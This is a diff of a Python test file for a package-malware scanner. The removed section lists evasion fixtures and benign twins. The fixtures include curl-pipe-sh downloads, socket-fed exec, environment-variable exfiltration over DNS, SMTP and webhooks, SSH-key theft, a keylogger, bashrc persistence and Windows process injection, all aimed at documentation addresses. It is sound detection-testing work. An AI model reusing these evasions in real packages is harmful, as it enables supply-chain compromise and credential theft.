@@ -1,108 +1,92 @@
-"""Evasions of each technique real campaigns use, as harmless fixtures the tests write (never run: the scanner
-only reads them), each with a benign twin. A positive must be caught at the weight its placement deserves
-(install or import time: a block; library code of an unknown project: at least a warning); a twin must not warn.
+"""The evasion catalogue (jupyter_safepip/testing/evasions.py) against the engine: harmless fixtures of the
+techniques real campaigns use, in every placement where code runs, each caught at the weight its placement
+deserves (install, import or start-up: a block; library code of an unknown project: at least a warning), and
+benign twins that must stay quiet. `python benchmarks/evasions.py` prints the same judgement as a table.
 Addresses are documentation ones (example.invalid, 192.0.2.x); payloads decode to print()."""
 
 from __future__ import annotations
 
+import ast
 import base64
-from pathlib import Path
+import configparser
+import json
+import re
+import tomllib
+import unicodedata
 
 import pytest
 
+from jupyter_safepip.core.checks.archive import scan_archive
 from jupyter_safepip.core.model import Severity
-from tests.support.archives import scan_sdist, scan_wheel
+from jupyter_safepip.testing.evasions import CASES, Case, Cause, Expect, Placement, build, judge
+from tests.support.archives import scan_wheel
 
-PRINT_HI = base64.b64encode(b"print('hi')").decode()
-RUN_ID = base64.b64encode(b"import os\nos.system('id')").decode()
-HOOK = "https://discord.com/api/webhooks/0/example"
-
-# (id, where the code runs, source) where: "setup" (setup.py), "import" (package __init__ at module level),
-# "library" (a function of a module nobody calls on import).
-POSITIVES = [
-    ("alias-module", "import", "import os\no = os\no.system('curl http://192.0.2.1/x | sh')\n"),
-    ("alias-function", "import", "import urllib.request\nf = urllib.request.urlopen\nexec(f('http://192.0.2.1/x').read())\n"),
-    ("from-import-as", "setup", "from os import system as s\ns('curl http://192.0.2.1/x | sh')\n"),
-    ("getattr-concat", "import", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"),
-    ("dunder-import-concat", "import", "__import__('o' + 's').system('id')\n"),
-    ("globals-builtins", "import", f"import base64\nglobals()['__builtins__']['ex' + 'ec'](base64.b64decode('{PRINT_HI}'))\n"),
-    ("vars-builtins", "import", f"import base64, builtins\nvars(builtins)['ex' + 'ec'](base64.b64decode('{PRINT_HI}'))\n"),
-    ("sys-modules-builtins", "import", f"import sys, base64\nsys.modules['builtins'].exec(base64.b64decode('{PRINT_HI}'))\n"),
-    ("importlib-computed", "import", f"import importlib, base64\nimportlib.import_module('built' + 'ins').exec(base64.b64decode('{PRINT_HI}'))\n"),
-    ("methodcaller", "import", "import operator, os\noperator.methodcaller('system', 'curl http://192.0.2.1/x | sh')(os)\n"),
-    ("dunder-call", "import", f"import base64\nexec.__call__(base64.b64decode('{PRINT_HI}'))\n"),
-    ("helper-decoder", "import", f"import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack('{RUN_ID}'))\n"),
-    ("lambda-runner", "import", f"import base64\nrun = lambda code: exec(code)\nrun(base64.b64decode('{RUN_ID}'))\n"),
-    ("chunked-base64", "import", "import base64\nparts = [" + ", ".join(repr(RUN_ID[i:i + 6]) for i in range(0, len(RUN_ID), 6))
-        + "]\nexec(base64.b64decode(''.join(parts)))\n"),
-    ("exec-literal-code", "import", "exec(\"import os\\nos.system('curl http://192.0.2.1/x | sh')\")\n"),
-    ("nfkc-exec", "import", f"import base64\n\U0001d68e\U0001d6a1\U0001d68e\U0001d68c(base64.b64decode('{PRINT_HI}'))\n"),
-    ("ctypes-libc-system", "import", "import ctypes\nctypes.CDLL('libc.so.6').system(b'curl http://192.0.2.1/x | sh')\n"),
-    ("posix-spawnp", "setup", "import os\nos.posix_spawnp('curl', ['curl', 'http://192.0.2.1/x', '-o', '/tmp/x'], {})\n"),
-    ("pickle-payload", "import", "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n"),
-    ("injection", "library", "import ctypes\ndef load(code):\n    k = ctypes.windll.kernel32\n    p = k.VirtualAllocEx(-1, 0, len(code), 0x3000, 0x40)\n"
-        "    k.WriteProcessMemory(-1, p, code, len(code), 0)\n    k.CreateRemoteThread(-1, 0, 0, p, 0, 0, 0)\n"),
-    ("vendored-requests", "import", "from pip._vendor import requests\nexec(requests.get('http://192.0.2.1/x').text)\n"),
-    ("build-opener", "import", "import urllib.request\nexec(urllib.request.build_opener().open('http://192.0.2.1/x').read())\n"),
-    ("socket-exec", "import", "import socket\ns = socket.create_connection(('192.0.2.1', 4444))\nexec(s.recv(65536))\n"),
-    ("dns-exfil", "import", "import os, socket\nsocket.gethostbyname(str(os.environ.copy())[:40] + '.example.invalid')\n"),
-    ("smtp-environ", "import", "import os, smtplib\nsmtplib.SMTP('192.0.2.1').sendmail('a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))\n"),
-    ("split-webhook", "import", "import os, requests\nrequests.post('https://disc' + 'ord.com/api/web' + 'hooks/0/x', data=dict(os.environ))\n"),
-    ("ssh-key-pathlib", "library", "import pathlib, requests\ndef sync():\n    key = (pathlib.Path.home() / '.ss' 'h' / 'id_rsa').read_text()\n"
-        "    requests.post('https://192.0.2.1/k', data=key)\n"),
-    ("read-in-one-method-send-in-another", "library", "import os, requests\nclass Sync:\n    def __init__(self):\n"
-        "        self.data = dict(os.environ)\n    def push(self):\n        requests.post('https://192.0.2.1/e', json=self.data)\n"),
-    ("screenshot-sent", "library", "import requests\nfrom PIL import ImageGrab\ndef snap():\n    ImageGrab.grab().save('/tmp/s.png')\n"
-        "    requests.post('https://192.0.2.1/s', files={'f': open('/tmp/s.png', 'rb')})\n"),
-    ("keylogger", "import", "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n"),
-    ("bashrc-pathlib", "setup", "import pathlib\n(pathlib.Path.home() / '.ba' 'shrc').open('a').write('curl http://192.0.2.1/x | sh\\n')\n"),
-    ("called-at-module-level", "import", "import os\ndef go():\n    os.system('curl http://192.0.2.1/x | sh')\ngo()\n"),
-    ("decorator-runs", "import", "import os\ndef plugin(f):\n    os.system('curl http://192.0.2.1/x | sh')\n    return f\n@plugin\ndef main():\n    pass\n"),
-    ("class-body", "import", "import os\nclass Config:\n    os.system('curl http://192.0.2.1/x | sh')\n"),
-]
-BENIGN_TWINS = [
-    ("git-describe-in-setup", "setup", "import subprocess\nfrom setuptools import setup\n"
-        "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\nsetup(name='demo', version=version)\n"),
-    ("cli-runs-a-program", "library", "import subprocess\ndef run(args):\n    return subprocess.run(['git', *args], check=True)\n"),
-    ("plugin-loader", "import", "import importlib\nfrom importlib.metadata import entry_points\n"
-        "PLUGINS = [importlib.import_module(ep.module) for ep in entry_points(group='demo.plugins')]\n"),
-    ("weights-downloader", "library", "import urllib.request\ndef fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n    return path\n"),
-    ("twine-like-upload", "library", "import configparser, os, requests\ndef upload(repository, dist):\n"
-        "    cfg = configparser.ConfigParser()\n    cfg.read(os.path.expanduser('~/.pypirc'))\n"
-        "    user, password = cfg[repository]['username'], cfg[repository]['password']\n"
-        "    return requests.post(cfg[repository]['repository'], auth=(user, password), files={'content': open(dist, 'rb')})\n"),
-    ("decodes-data-not-code", "import", f"import base64\nLOGO = base64.b64decode('{PRINT_HI}')\n"),
-    ("api-key-from-env", "library", "import os, requests\ndef ask(q):\n    return requests.post('https://api.example.invalid/v1', "
-        "headers={'Authorization': os.environ['API_KEY']}, json={'q': q})\n"),
-    ("own-hostname", "import", "import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n"),
-    ("six-style-exec", "import", "exec('def reraise(tp, value, tb=None):\\n    raise value')\n"),
-    ("main-guard", "import", "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['make', 'docs'])\n"),
-    ("chmod-read-only", "library", "import os, urllib.request\ndef cache(url, path):\n    urllib.request.urlretrieve(url, path)\n"
-        "    os.chmod(path, 0o644 & ~os.umask(0))\n"),
-]
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_each_case_gets_the_verdict_its_placement_deserves(tmp_path, case: Case):
+    scan = scan_archive(build(case, tmp_path))
+    outcome = judge(case, scan.findings, scan.errors)
+    seen = [(f.rule_id, f.severity.label, f.runs) for f in scan.findings] + [("error", e.reason) for e in scan.errors]
+    wanted = "nothing at medium or above" if case.benign else case.expect.value
+    assert outcome.met, (f"{case.id} ({case.cause.slug}, {case.placement.label}): {case.technique}; wanted {wanted}, "
+                         f"got {outcome.verdict.label}; findings: {seen}")
 
 
-def _scan(tmp_path: Path, where: str, source: str):
-    if where == "setup":
-        return scan_sdist(tmp_path, {"setup.py": source + "\nfrom setuptools import setup\nsetup(name='demo')\n"})
-    if where == "import":
-        return scan_wheel(tmp_path, {"demo/__init__.py": source})
-    return scan_wheel(tmp_path, {"demo/__init__.py": "", "demo/tools.py": source})
+def test_every_cause_has_positives_and_a_benign_twin():
+    for cause in Cause:
+        cases = [c for c in CASES if c.cause is cause]
+        assert sum(not c.benign for c in cases) >= 2 and sum(c.benign for c in cases) >= 1, cause
 
 
-@pytest.mark.parametrize(("case", "where", "source"), POSITIVES, ids=[p[0] for p in POSITIVES])
-def test_an_evasion_is_caught_at_the_weight_its_placement_deserves(tmp_path, case, where, source):
-    findings = _scan(tmp_path, where, source).findings
-    worst = max((f.severity for f in findings), default=Severity.INFO)
-    wanted = Severity.MEDIUM if where == "library" else Severity.HIGH
-    assert worst >= wanted, f"{case}: {[(f.rule_id, f.severity.label) for f in findings]}"
+def test_every_placement_has_a_case_and_each_case_the_weight_its_placement_deserves():
+    assert {c.placement for c in CASES} == set(Placement)
+    assert len({c.id for c in CASES}) == len(CASES)
+    for case in CASES:
+        if not case.benign:
+            assert case.expect is (Expect.FLAG if case.placement.runs == "library" else Expect.BLOCK), case.id
 
 
-@pytest.mark.parametrize(("case", "where", "source"), BENIGN_TWINS, ids=[b[0] for b in BENIGN_TWINS])
-def test_the_benign_twin_does_not_warn(tmp_path, case, where, source):
-    findings = _scan(tmp_path, where, source).findings
-    loud = [(f.rule_id, f.severity.label) for f in findings if f.severity >= Severity.MEDIUM]
-    assert not loud, f"{case}: {loud}"
+def _pth_code(text: str) -> list[str]:
+    # As CPython 3.11's site.addpackage reads the file: universal newlines, lines starting with "import " run.
+    return [line for line in re.split(r"\r\n|\r|\n", text) if line.startswith(("import ", "import\t"))]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_each_fixture_is_well_formed(case: Case):
+    """A scanner that cannot parse a fixture would be judged on a broken file, not on the technique."""
+    for path, text in case.files.items():
+        if path.endswith(".py"):
+            ast.parse(text, path)
+        elif path.endswith(".json"):
+            json.loads(text)
+        elif path.endswith(".toml"):
+            tomllib.loads(text)
+        elif path.endswith(".cfg"):
+            configparser.ConfigParser().read_string(text)
+        elif path.endswith(".pth"):
+            for line in _pth_code(text):
+                compile(line, path, "exec")
+    if case.placement is Placement.PTH and not case.benign:
+        assert any(_pth_code(t) for p, t in case.files.items() if p.endswith(".pth")), "no line site.py would run"
+
+
+_HOST = re.compile(r"(?:https?|ftp)://([^/:'\"\s]+)")
+_IP = re.compile(r"(?<![\d.])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])")
+_HARMLESS_HOST = re.compile(r"(?:[\w-]+\.)*example\.invalid|192\.0\.2\.\d{1,3}|127\.0\.0\.1|localhost")
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_each_fixture_is_harmless(case: Case):
+    """Even run by mistake, a fixture reaches no real host and decodes to nothing but print('hi')."""
+    for path, text in case.files.items():
+        text = unicodedata.normalize("NFKC", text)
+        for host in _HOST.findall(text) + _IP.findall(text):
+            assert _HARMLESS_HOST.fullmatch(host), f"{path}: {host}"
+        for blob in re.findall(r"['\"]([A-Za-z0-9+/]{12,}={0,2})['\"]", text):
+            try:
+                decoded = base64.b64decode(blob, validate=True)
+            except ValueError:
+                continue
+            assert b"http" not in decoded or b"192.0.2." in decoded, f"{path}: {decoded!r}"
 
 
 KERNEL = "demo-1.0.data/data/share/jupyter/kernels/demo/kernel.json"
@@ -130,6 +114,9 @@ def test_an_ipython_config_file_in_a_wheel_is_start_up_code(tmp_path):
     startup = scan_wheel(tmp_path / "s", {"demo/__init__.py": "", "demo-1.0.data/data/etc/ipython/ipython_config.py": code})
     assert max(f.severity for f in startup.findings) >= Severity.HIGH
     assert any(f.runs == "startup" for f in startup.findings)
+
+
+RUN_ID = base64.b64encode(b"import os\nos.system('id')").decode()
 
 
 def test_decoder_and_payload_in_different_modules_of_the_package(tmp_path):
